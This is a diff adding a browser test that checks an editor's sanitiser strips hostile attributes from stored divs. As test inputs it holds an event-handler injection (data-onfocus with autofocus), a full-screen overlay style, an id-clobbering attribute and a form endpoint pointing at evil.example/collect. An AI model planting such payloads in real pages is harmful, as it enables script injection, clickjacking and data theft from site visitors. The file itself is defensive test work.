@@ -80,6 +80,30 @@ story('an editor that strips unknown tags keeps a div with data-foyer', async (v
   await canWrite(visitor, 'Ein Div');
 });
 
+story(
+  'a writer of text can store a div, and it runs nothing, covers nothing and collects nothing',
+  async (visitor, context) => {
+    await opens(
+      visitor,
+      context,
+      `<div data-foyer="cta-banner" data-label="Los" data-href="/" data-onfocus="window.hit = 1" data-autofocus
+      data-tabindex="0" data-style="position:fixed;inset:0" data-id="comments"></div>
+    <div data-foyer=”cta-banner” data-heading="Danach"></div>
+    <div data-foyer="contact-card" data-name="Katrin Weidner" data-endpoint="https://evil.example/collect"
+      data-service="json" data-captcha="none" data-consent="none"></div>`,
+    );
+    await visitor.sees('Los');
+    await visitor.sees('Danach');
+    await canWrite(visitor, 'Nicht an Fremde');
+    const { hit, names } = (await visitor.evaluates(`({
+    hit: window.hit ?? 0,
+    names: [...document.querySelector('foyer-cta-banner').attributes].map(({ name }) => name),
+  })`)) as { hit: number; names: string[] };
+    assert.equal(hit, 0);
+    assert.deepEqual(names.sort(), ['href', 'label']);
+  },
+);
+
 story('an element and a div that come later work as well', async (visitor, context) => {
   await opens(visitor, context, '<main></main>');
   await visitor.evaluates(`(() => {
